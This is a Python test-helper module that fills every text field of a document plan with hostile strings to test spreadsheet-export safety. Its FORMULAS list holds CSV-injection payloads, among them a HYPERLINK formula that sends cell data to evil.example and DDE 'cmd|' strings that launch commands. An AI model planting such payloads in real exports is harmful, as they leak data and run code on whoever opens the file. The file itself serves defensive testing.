"""Plans whose every text is a mean one: what spreadsheets take for formulas, and odd characters."""

from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Annotated, Any, get_args, get_origin

from documents.content import PlanContent
from documents.eras import DateReading
from documents.limits import LONG, SHORT
from documents.schema import hints_of

# Attack case 26, and what else a cell may begin with.
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    '=HYPERLINK("http://evil.example/?"&A1,"見る")',
    "=cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "'=1+1",
    '"=1+1',
    ",=1+1",
    "\\n=1",
)
# Attack case 32.
CHARACTERS = ("𠮷野家", "葛\U000e0100飾区", "髙橋", "①㈱〜", "🏔️", "か\u3099")


def _is_text(hint: Any) -> bool:
    return get_origin(hint) is Annotated and hint.__metadata__[0] in (SHORT, LONG)


def with_texts(value: Any, text: str) -> Any:
    """Return content in which every text is `text`; marks go, for they no longer fit."""
    if isinstance(value, tuple):
        return tuple(with_texts(item, text) for item in value)
    if isinstance(value, DateReading | Enum) or not is_dataclass(value):
        return value
    kind: Any = type(value)
    hints = hints_of(kind)
    changes: dict[str, Any] = {}
    for item in fields(value):
        hint, inner = hints[item.name], getattr(value, item.name)
        if item.name == "marks":
            changes[item.name] = ()
        elif _is_text(hint):
            changes[item.name] = text
        elif get_origin(hint) is tuple and _is_text(get_args(hint)[0]):
            changes[item.name] = tuple(text for _ in inner)
        else:
            changes[item.name] = with_texts(inner, text)
    return replace(value, **changes)  # type: ignore[type-var]


def mean_plan(content: PlanContent, text: str) -> PlanContent:
    """Return a plan that says nothing but `text`."""
    changed: PlanContent = with_texts(content, text)
    return changed
